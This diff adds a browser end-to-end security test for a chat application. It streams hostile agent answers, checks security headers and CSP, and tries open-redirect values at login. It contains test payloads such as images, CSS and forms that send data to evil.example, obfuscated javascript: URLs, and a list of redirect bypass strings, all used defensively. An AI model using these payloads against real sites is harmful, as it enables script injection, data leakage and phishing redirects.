@@ -1,0 +1,280 @@
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import type { Page, Request } from '@playwright/test';
+import type { AgentRuntime } from '../../server/agents/runtime';
+import { startServer, type RunningServer } from '../../server/start';
+import { HOSTILE_PAYLOADS } from '../../src/components/markdown/hostile-payloads';
+import { expect, logIn, test, useEnglish } from './fixtures';
+
+/**
+ * Attacks in a real browser against the real server: hostile agent answers streamed live and
+ * shown again from history, the security headers doing their work, and hostile redirect_url
+ * values at login.
+ */
+
+const REPO = fileURLToPath(new URL('../..', import.meta.url));
+
+/** The shared corpus, plus a few more ways an image could carry data to another host. */
+const CORPUS: readonly string[] = [
+  ...HOSTILE_PAYLOADS,
+  '<img src="https://evil.example/leak.png?c=secret">',
+  '![a](https://evil.example/a.png "t") and ![b](http://127.0.0.2/b.png)',
+  '<picture><source srcset="https://evil.example/p.png"><img src="/x.png"></picture>',
+  '<link rel="stylesheet" href="https://evil.example/s.css">',
+  '<style>@import url("https://evil.example/i.css"); body { background: url(https://evil.example/bg.png) }</style>',
+  '<div style="background-image:url(https://evil.example/bg.png)">styled</div>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">[relative](/x)',
+  '<form action="https://evil.example/steal"><button formaction="javascript:window.__pwned=1">go</button></form>',
+  '<a href="&#106;avascript:window.__pwned=1">entity</a> [e](&#x6A;avascript:window.__pwned=1) [p](%6Aavascript:window.__pwned=1)',
+];
+
+/** Answers "payload N" with entry N of the corpus, a few characters at a time. */
+const replayRuntime: AgentRuntime = {
+  label: 'replay',
+  async *streamAnswer({ history, signal }) {
+    const index = Number(/payload (\d+)/.exec(history.at(-1)?.content ?? '')?.[1] ?? -1);
+    const text = CORPUS[index] ?? 'unknown payload';
+    for (let at = 0; at < text.length && !signal.aborted; at += 7) {
+      yield text.slice(at, at + 7);
+      await new Promise((resolve) => setTimeout(resolve, 1));
+    }
+  },
+};
+
+let server: RunningServer;
+let dataDir: string;
+
+test.beforeAll(async () => {
+  dataDir = mkdtempSync(join(tmpdir(), 'kraken-attacks-'));
+  server = await startServer({
+    port: 0,
+    host: '127.0.0.1',
+    dataDir,
+    env: { ...process.env, LLM_BASE_URL: '', DATABASE_URL: '' },
+    runtime: replayRuntime,
+    spaDir: process.env.E2E_SPA_DIR ?? join(REPO, 'dist'),
+    log: () => undefined,
+  });
+});
+test.afterAll(async () => {
+  await server?.close();
+  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
+});
+
+/** Everything a page did that it should not: dialogs, and requests to any other host. */
+const watch = (page: Page, origin: string) => {
+  const seen = { dialogs: [] as string[], foreign: [] as string[] };
+  page.on('dialog', (dialog) => {
+    seen.dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on('request', (request: Request) => {
+    const url = new URL(request.url());
+    if ((url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'ws:') && url.origin !== origin) seen.foreign.push(request.url());
+  });
+  page.on('popup', (popup) => seen.foreign.push(`popup ${popup.url()}`));
+  return seen;
+};
+
+/** What in the answers could run, load or send: bad elements, handlers, dangerous URLs, CSS tricks. */
+const findDanger = (page: Page) =>
+  page.evaluate(() => {
+    const problems: string[] = [];
+    const FORBIDDEN = ['script', 'iframe', 'object', 'embed', 'frame', 'frameset', 'base', 'meta', 'link', 'style', 'form', 'svg', 'math', 'video', 'audio', 'source', 'template', 'picture'];
+    const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'poster', 'background'];
+    const answers = document.querySelectorAll('[data-testid="answer"]');
+    for (const answer of answers) {
+      for (const element of answer.querySelectorAll('*')) {
+        const tag = element.tagName.toLowerCase();
+        if (FORBIDDEN.includes(tag)) problems.push(`<${tag}>`);
+        if (tag === 'input' && (element as HTMLInputElement).type !== 'checkbox') problems.push(`<input type=${(element as HTMLInputElement).type}>`);
+        for (const attribute of element.attributes) {
+          const name = attribute.name.toLowerCase();
+          const value = attribute.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
+          if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
+          if (URL_ATTRIBUTES.includes(name) && /^(javascript|data|vbscript):/.test(value)) problems.push(`${tag}[${name}=${attribute.value}]`);
+          if (name === 'style' && /url\(|expression\(|@import|position:fixed/.test(value)) problems.push(`${tag}[style=${attribute.value}]`);
+          if (tag === 'img' && name === 'src' && !value.startsWith(location.origin) && !value.startsWith('blob:')) problems.push(`img[src=${attribute.value}]`);
+        }
+      }
+    }
+    const found = window as { __pwned?: unknown; __violations?: string[] };
+    return { problems, pwned: found.__pwned ?? null, violations: found.__violations ?? [], answers: answers.length };
+  });
+
+const BATCH = 24;
+const batches = Array.from({ length: Math.ceil(CORPUS.length / BATCH) }, (_, i) => [i * BATCH, Math.min(CORPUS.length, (i + 1) * BATCH)] as const);
+
+test(`the corpus holds at least 50 hostile payloads (${CORPUS.length})`, () => {
+  expect(CORPUS.length).toBeGreaterThanOrEqual(50);
+});
+
+for (const [from, to] of batches) {
+  test(`hostile answers ${from}–${to - 1} run nothing and load nothing, live and from history`, async ({ page }) => {
+    test.setTimeout(120_000);
+    await useEnglish(page);
+    // Anything the page tried to load or run against the CSP is written down here.
+    await page.addInitScript(() => {
+      const found = window as { __violations?: string[] };
+      found.__violations = [];
+      document.addEventListener('securitypolicyviolation', (event) => found.__violations!.push(`${event.effectiveDirective} ${event.blockedURI}`));
+    });
+    const seen = watch(page, server.url);
+    await page.goto(`${server.url}/chat`);
+    const box = page.getByRole('textbox', { name: /Ask anything/ });
+    const complete = page.locator('li[data-role="assistant"][data-status="complete"]');
+
+    for (let index = from; index < to; index += 1) {
+      await box.fill(`payload ${index}`);
+      await box.press('Enter');
+      await expect(complete).toHaveCount(index - from + 1);
+    }
+    await page.waitForTimeout(300);
+    const live = await findDanger(page);
+    expect(live.answers).toBe(to - from);
+    expect(live.problems, 'streamed live').toEqual([]);
+    expect(live.pwned).toBeNull();
+    expect(live.violations, 'blocked by the CSP while streaming').toEqual([]);
+
+    await expect(page).toHaveURL(/\/chat\/[^/]+$/);
+    await page.reload();
+    await expect(complete).toHaveCount(to - from);
+    await page.waitForTimeout(300);
+    const stored = await findDanger(page);
+    expect(stored.problems, 'from history').toEqual([]);
+    expect(stored.pwned).toBeNull();
+    expect(stored.violations, 'blocked by the CSP from history').toEqual([]);
+
+    expect(seen.dialogs).toEqual([]);
+    expect(seen.foreign).toEqual([]);
+    // What an attacker wrote is shown as text, not swallowed.
+    await expect(page.getByTestId('answer').first()).not.toBeEmpty();
+
+    // The checker itself sees what it looks for.
+    await page.evaluate(() => {
+      const answer = document.querySelector('[data-testid="answer"]')!;
+      const planted = document.createElement('img');
+      planted.setAttribute('onerror', 'void 0');
+      planted.setAttribute('src', 'https://evil.example/p.png');
+      answer.append(planted, document.createElement('iframe'));
+    });
+    const planted = await findDanger(page);
+    expect(planted.problems).toEqual(expect.arrayContaining(['img[onerror]', 'img[src=https://evil.example/p.png]', '<iframe>']));
+  });
+}
+
+test('the page carries the security headers, and its CSP blocks injected inline script and handlers', async ({ page }) => {
+  const response = await page.goto(`${server.url}/chat`);
+  const headers = response!.headers();
+  expect(headers['content-security-policy']).toMatch(/script-src 'self'(;|$)/);
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+  expect(headers['x-frame-options']).toBe('DENY');
+  await expect(page.getByRole('textbox', { name: /Ask anything|输入/ })).toBeVisible();
+
+  const outcome = await page.evaluate(
+    () =>
+      new Promise<{ violations: string[]; inline: unknown; handler: unknown; url: unknown }>((resolve) => {
+        const violations: string[] = [];
+        document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+        const script = document.createElement('script');
+        script.textContent = 'window.__inline = 1';
+        document.body.append(script);
+        const button = document.createElement('button');
+        button.setAttribute('onclick', 'window.__handler = 1');
+        document.body.append(button);
+        button.click();
+        const link = document.createElement('a');
+        link.href = 'javascript:window.__url = 1';
+        document.body.append(link);
+        link.click();
+        setTimeout(() => {
+          const found = window as { __inline?: unknown; __handler?: unknown; __url?: unknown };
+          resolve({ violations, inline: found.__inline ?? null, handler: found.__handler ?? null, url: found.__url ?? null });
+        }, 500);
+      }),
+  );
+  expect(outcome).toMatchObject({ inline: null, handler: null, url: null });
+  expect(outcome.violations.length).toBeGreaterThanOrEqual(2);
+  expect(outcome.violations.every((directive) => directive.startsWith('script-src'))).toBe(true);
+});
+
+test('the site refuses to be framed by another page', async ({ page }) => {
+  await page.goto('about:blank');
+  await page.setContent(`<iframe id="victim" src="${server.url}/login" width="400" height="300"></iframe>`);
+  await page.waitForTimeout(1_000);
+  const framed = page.frames().find((frame) => frame !== page.mainFrame());
+  const framedUrl = framed?.url() ?? '';
+  const loaded = framed && framedUrl.startsWith(server.url) ? await framed.locator('input').count().catch(() => 0) : 0;
+  expect(loaded).toBe(0);
+});
+
+/** Values an attacker could put in redirect_url to send someone elsewhere after login. */
+const HOSTILE_REDIRECTS = [
+  '//evil.example',
+  '///evil.example',
+  '////evil.example/x',
+  '/\\evil.example',
+  '\\\\evil.example',
+  '\\/evil.example',
+  '/\\/evil.example',
+  '/%09/evil.example',
+  '/%0a/evil.example',
+  '/%0d%0a/evil.example',
+  '\t//evil.example',
+  '/\t/evil.example',
+  '/\n/evil.example',
+  ' //evil.example',
+  '%2f%2fevil.example',
+  '/%2f/evil.example',
+  '/%5cevil.example',
+  '/%5c%5cevil.example',
+  'https://evil.example',
+  'http://evil.example/login',
+  'HTTPS://EVIL.EXAMPLE',
+  'https:evil.example',
+  'https:/evil.example',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  'javascript%3Aalert(1)',
+  '%6Aavascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '/@evil.example',
+  '@evil.example',
+  'https://user@evil.example',
+  '/..//evil.example',
+  '/.//evil.example',
+  '/%2e%2e//evil.example',
+  'blob:https://evil.example/x',
+  '//evil.example/%2f..',
+  '/login?redirect_url=//evil.example',
+];
+
+test(`login never leaves the site for any of ${HOSTILE_REDIRECTS.length} hostile redirect_url values`, async ({ page, context, baseURL }) => {
+  test.setTimeout(180_000);
+  expect(HOSTILE_REDIRECTS.length).toBeGreaterThanOrEqual(25);
+  const origin = new URL(baseURL!).origin;
+  await useEnglish(page);
+  const seen = watch(page, origin);
+  const landed: string[] = [];
+  for (const hostile of HOSTILE_REDIRECTS) {
+    await context.clearCookies();
+    await page.goto(`/login?redirect_url=${encodeURIComponent(hostile)}`);
+    await logIn(page);
+    await page.waitForURL((url) => url.pathname !== '/login' || url.origin !== origin, { timeout: 10_000 }).catch(() => undefined);
+    await page.waitForTimeout(200);
+    const url = new URL(page.url());
+    landed.push(`${JSON.stringify(hostile)} → ${url.origin === origin ? url.pathname + url.search : url.href}`);
+    expect.soft(url.origin, `redirect_url ${JSON.stringify(hostile)}`).toBe(origin);
+    expect.soft(url.pathname.startsWith('//'), `redirect_url ${JSON.stringify(hostile)}`).toBe(false);
+  }
+  test.info().annotations.push({ type: 'landed', description: landed.join('\n') });
+  expect(seen.dialogs).toEqual([]);
+  expect(seen.foreign).toEqual([]);
+});
